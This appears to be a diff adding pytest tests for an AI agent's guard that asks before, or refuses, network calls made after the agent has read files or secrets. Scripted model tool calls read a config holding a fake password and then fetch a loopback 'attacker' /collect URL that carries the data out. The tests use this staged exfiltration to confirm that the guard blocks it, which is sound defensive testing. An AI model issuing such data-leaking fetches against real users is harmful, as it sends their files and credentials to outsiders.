@@ -1,0 +1,154 @@
+"""Exfiltration is visible: once a turn has read file content or anything secret-looking, a call that sends
+data off the machine (browser tools that declare `llmos/network`, third-party tools not read-only) asks,
+showing the URL; with nobody to ask it is refused.
+
+The "attacker" is a real TCP listener on loopback; each test asserts whether anything connected to it."""
+
+from __future__ import annotations
+
+import json
+import socket
+import threading
+from collections.abc import Iterator
+from pathlib import Path
+
+import pytest
+from prompt_toolkit.input import create_pipe_input
+
+from tests.conftest import write_user_config
+from tests.inprocess import llmos
+from tests.replay_server import ReplayServer
+from tests.scripted_model import ScriptedModel, openai_text, openai_tool_calls
+
+_OFF = "".join(f"  {n}: {{enabled: false}}\n" for n in ("git", "system", "apps"))
+
+
+class Listener:
+    """Accepts connections on a loopback port and remembers what each one sent."""
+
+    def __init__(self) -> None:
+        self.sock = socket.create_server(("127.0.0.1", 0))
+        self.port = self.sock.getsockname()[1]
+        self.received: list[bytes] = []
+        self.sock.settimeout(0.2)
+        self._stop = threading.Event()
+        self._thread = threading.Thread(target=self._serve, daemon=True)
+        self._thread.start()
+
+    def _serve(self) -> None:
+        while not self._stop.is_set():
+            try:
+                conn, _ = self.sock.accept()
+            except OSError:
+                continue
+            with conn:
+                conn.settimeout(2)
+                try:
+                    self.received.append(conn.recv(65536))
+                    conn.sendall(b"HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\ncontent-length: 2\r\n\r\nok")
+                except OSError:
+                    pass
+
+    def close(self) -> None:
+        self._stop.set()
+        self._thread.join(5)
+        self.sock.close()
+
+
+@pytest.fixture
+def listener() -> Iterator[Listener]:
+    server = Listener()
+    yield server
+    server.close()
+
+
+@pytest.fixture
+def files(tmp_path: Path) -> Path:
+    root = tmp_path / "work"
+    root.mkdir()
+    (root / "notes.txt").write_text("meeting at noon, bring the plans\n")
+    (root / "deploy.cfg").write_text("host = prod\npassword = hunter2-very-secret\n")
+    return root
+
+
+def config(model: ScriptedModel, files: Path) -> str:
+    return model.config(f"servers:\n{_OFF}  filesystem:\n    roots: [{files}]\n"
+                        "  browser:\n    allow_private: true\n")  # the listener is on loopback
+
+
+def run(isolated_home: Path, files: Path, calls: list, *flags: str, keys: str | None = None) -> tuple:
+    with ReplayServer() as server:
+        model = ScriptedModel(server)
+        write_user_config(isolated_home, config(model, files))
+        model.say(*[openai_tool_calls(c) for c in calls], openai_text("Done."))
+        if keys is None:
+            return llmos("run", "--json", *flags, "summarise my notes"), model
+        with create_pipe_input() as pipe:
+            pipe.send_text(keys)
+            return llmos("run", *flags, "summarise my notes", prompt_input=pipe), model
+
+
+def leak_url(listener: Listener, data: str) -> str:
+    return f"http://127.0.0.1:{listener.port}/collect?d={data}"
+
+
+@pytest.mark.parametrize(("read", "leaked"), [("notes.txt", "meeting-at-noon"), ("deploy.cfg", "hunter2")])
+@pytest.mark.parametrize("tool", ["fetch_page", "open_url", "download"])
+def test_a_network_call_after_reading_is_refused_without_a_terminal(isolated_home: Path, files: Path,
+                                                                    listener: Listener, read: str,
+                                                                    leaked: str, tool: str) -> None:
+    out, _ = run(isolated_home, files, [("read_file", {"path": str(files / read)}),
+                                        (tool, {"url": leak_url(listener, leaked)})])
+    assert out.returncode == 4, out.stderr
+    assert listener.received == []  # nothing reached the attacker's port
+    calls = json.loads(out.stdout)["tool_calls"]
+    assert [(c["tool"], c["decision"]) for c in calls] == [("filesystem.read_file", "allow"),
+                                                           (f"browser.{tool}", "refused")]
+
+
+def test_without_a_read_first_a_fetch_runs(isolated_home: Path, files: Path, listener: Listener) -> None:
+    """The check is about what the turn read: a plain fetch still runs (and does reach the port)."""
+    out, _ = run(isolated_home, files, [("fetch_page", {"url": leak_url(listener, "nothing")})])
+    assert out.returncode == 0, out.stderr
+    assert len(listener.received) == 1 and b"GET /collect?d=nothing" in listener.received[0]
+
+
+@pytest.mark.timeout(90)
+def test_at_a_terminal_the_question_shows_the_url_and_no_keeps_it_home(isolated_home: Path, files: Path,
+                                                                       listener: Listener) -> None:
+    url = leak_url(listener, "hunter2")
+    out, _ = run(isolated_home, files, [("read_file", {"path": str(files / "deploy.cfg")}),
+                                        ("fetch_page", {"url": url})], keys="n\n")
+    assert listener.received == []
+    shown = " ".join(line.strip("│ ") for line in out.stderr.splitlines())  # the panel, unwrapped
+    assert f"url: {url} (sends data off the machine)" in shown
+    assert "something secret-looking" in shown
+
+
+@pytest.mark.timeout(90)
+def test_a_shell_escape_output_counts_as_read(isolated_home: Path, files: Path, listener: Listener) -> None:
+    import asyncio
+    import io
+
+    from prompt_toolkit.output import DummyOutput
+
+    from llmos.config import load_config
+    from llmos.repl.app import Repl
+    from llmos.terminal import Terminal
+
+    with ReplayServer() as server:
+        model = ScriptedModel(server)
+        write_user_config(isolated_home, config(model, files))
+        model.say(openai_tool_calls(("fetch_page", {"url": leak_url(listener, "plans")})), openai_text("Sent."))
+        out = io.StringIO()
+
+        async def go() -> None:
+            with create_pipe_input() as pipe:
+                # !cat runs in the turn before; the question for the fetch is answered no
+                pipe.send_text(f"!cat {files}/notes.txt\rsend it\rn\r/exit\r")
+                repl = Repl(load_config(), Terminal(stdout=out, stderr=out, prompt_input=pipe,
+                                                    prompt_output=DummyOutput(), person=True, width=160))
+                await repl.run()
+        asyncio.run(asyncio.wait_for(go(), 60))
+    assert "meeting at noon" in out.getvalue()
+    assert listener.received == [], out.getvalue()
